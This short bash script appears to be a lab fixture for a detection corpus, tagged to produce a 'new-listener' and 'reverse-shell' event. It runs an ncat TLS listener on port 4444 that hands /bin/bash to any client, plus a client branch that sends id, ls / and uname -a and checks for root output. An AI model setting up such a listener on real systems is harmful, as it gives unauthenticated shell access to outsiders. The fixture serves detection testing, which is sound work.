#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=new-listener,reverse-shell half=report tool=ncat,bash far=out seconds=22 parts=dns
# ncat waits with TLS on a port of the office side and gives a shell to whoever comes; somebody outside comes.
if [ "$1" = out ]; then sleep 5; (sleep 1; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 14 ncat --ssl 10.30.0.2 4444 >"$LAB/heard"; exit 0; fi
timeout 19 ncat --ssl -l 10.30.0.2 4444 -e /bin/bash 2>/dev/null; grep -q uid=0 "$LAB/heard"
